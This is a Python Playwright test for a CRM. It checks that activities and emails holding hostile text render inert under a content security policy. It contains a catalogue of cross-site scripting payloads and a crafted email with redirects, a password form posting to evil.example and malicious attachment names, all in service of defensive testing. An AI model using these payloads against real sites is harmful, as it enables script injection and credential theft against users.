"""Whatever stands in an activity or an e-mail, nothing of it is carried out.

A handler or a script that got into a page would fail the test by itself: the content security policy forbids
it, and says so on the console.
"""

import pytest
from playwright.sync_api import expect

from crm.mail.logging import log_messages
from records import schema
from records.models import Attachment, EmailMessage, Property
from tests.crm.mail.test_uploading import file
from tests.factories import ContactFactory, DealFactory, by, make_activity

TEXTS = (Property.FieldType.TEXT, Property.FieldType.TEXTAREA, Property.FieldType.HTML)
HOSTILE = (
    "Read me \"'><img src=x onerror=\"alert('ran')\"><svg onload=alert(1)><script>alert(2)</script>"
    "<a href=\"javascript:alert(3)\" onclick=alert(4)>here</a><math><mi//xlink:href='data:x,alert(5)'>"
    "</textarea></title><iframe srcdoc='<script>alert(6)</script>'></iframe><details open ontoggle=alert(7)>"
    "<b style='background:url(//evil.example/x)'>{{7*7}}</b><style>@import '//evil.example/y';</style>"
)
SUBJECT = "<script>alert(8)</script>"
EMAIL = f"""\
Message-ID: <hostile@evil.example>
From: "<img src=x onerror=alert(9)>" <ada@example.com>
To: "\\"><script>alert(10)</script>" <x@evil.example>
Subject: {SUBJECT}
X-Odd: <script>alert(11)</script>
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">
<link rel=stylesheet href="//evil.example/a.css"><title></title><script>alert(12)</script></head>
<body onload=alert(13) background="//evil.example/b.png">{HOSTILE}
<form action="//evil.example/"><input name=password autofocus onfocus=alert(14)><button>Sign in</button></form>
<object data="//evil.example/c"></object><embed src="//evil.example/d"><video src=x onerror=alert(15)></video>
<a href="java&#10;script:alert(16)">a</a><a href="data:text/html,<script>alert(17)</script>">b</a>
<noscript><p title="</noscript><img src=x onerror=alert(18)>"></noscript>
<svg><style><img src=x onerror=alert(19)></style></svg><div id=timeline class=dialog hx-get="/x" hx-trigger=load>
</body></html>
--b
Content-Type: text/html; name="<img src=x onerror=alert(20)>.html"
Content-Disposition: attachment

<script>alert(21)</script>
--b
Content-Type: text/plain; name="<img src=x onerror=alert(22)>.txt"
Content-Disposition: attachment

<script>alert(23)</script>
--b--
""".encode()
# What no text may put into the part of a page that shows records.
ALIEN = ", ".join(
    (
        *(f"main [{name}]" for name in ("onerror", "onload", "onclick", "onfocus", "ontoggle", "srcdoc")),
        *(f"main {name}" for name in ("iframe", "object", "embed", "base", "meta", "video", "math", "style")),
        *("main a[href^='java' i]", "main a[href^='data:' i]", "main [src*='evil.example']"),
        *("main [action*='evil.example']", "main [style*='evil.example']", "main [hx-get='/x']"),
    )
)


@pytest.fixture
def activities(grace):
    """A deal with one activity of each type, hostile in every text: as it is entered, and as it stood in a
    database that nobody has made safe."""
    grace.first_name = HOSTILE[:150]
    grace.save()
    deal = DealFactory(dealname="Deal")
    ada = ContactFactory(firstname=HOSTILE[:100], lastname="L", email="ada@example.com")
    found = [deal]
    for kind in schema.current().activity_types:
        properties = [one for one in kind.properties.values() if not one.read_only]
        fields = {one.name: one.kind.form_field(one) for one in properties if one.field_type in TEXTS}
        texts = {name: HOSTILE[: getattr(field, "max_length", None)] for name, field in fields.items()}
        assert texts, kind
        found.append(make_activity(kind.name, deal, ada, actor=grace, **texts, hubspot_owner_id=grace))
        found.append(make_activity(kind.name, deal, ada, actor=grace, **texts, hubspot_owner_id=grace))
        raw = {kind.properties[name].column: text for name, text in texts.items()}
        kind.model.objects.filter(pk=found[-1].pk).update(**raw)
    log_messages([file(EMAIL)], by=by(grace), about=deal)
    found.append(EmailMessage.objects.get(message_id="hostile@evil.example"))
    return found


def test_nothing_in_an_activity_or_an_email_is_carried_out(desktop, activities, problems):
    deal, *rest = activities
    unsafe = [*rest[1::2], rest[-1]]
    page = desktop
    page.on("dialog", lambda dialog: (problems.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    here = deal.get_absolute_url()
    addresses = [here, f"{here}?tab=activities", f"{here}?tab=history", "/tasks/", "/search/?q=read"]
    addresses += [f"/records/{kind.name}/" for kind in schema.current().activity_types]
    addresses += [f"/records/{one.kind.name}/{one.pk}/" for one in unsafe]
    addresses += [f"{here}timeline/{one.pk}/edit/" for one in unsafe]
    addresses += [f"{here}timeline/{rest[-1].pk}/associations/", f"{rest[-1].get_absolute_url()}?tab=history"]
    for address in addresses:
        page.goto(address)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        if "/edit/" in address:
            for box in page.locator("textarea[data-rich-text]").all():
                expect(box).to_be_hidden()  # the editor stands in its place, with what the box held
        assert page.locator(ALIEN).evaluate_all("all => all.map(one => one.outerHTML)") == [], address
        assert page.url.endswith(address)

    # Edited in its place on the timeline, and found by the palette.
    page.goto(f"{here}?tab=activities")
    email = page.locator(f"#activity-{rest[-1].pk}")
    expect(email).to_contain_text(SUBJECT)
    expect(email.get_by_role("link", name=Attachment.objects.get().name)).to_be_visible()
    expect(email).to_contain_text("onerror=alert(20)>.html” is of a type that cannot be added.")
    email.locator("summary").first.click()
    email.get_by_role("link", name="Edit").click()
    editor = page.locator(f"#activity-{rest[-1].pk} [contenteditable]").first
    expect(editor).to_be_visible()
    page.locator("[data-editor-close]").click()
    expect(editor).to_be_hidden()
    page.keyboard.press("Control+k")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.type("read me")
    expect(page.locator(".palette__item").first).to_be_visible()
    assert page.locator(ALIEN).count() == 0
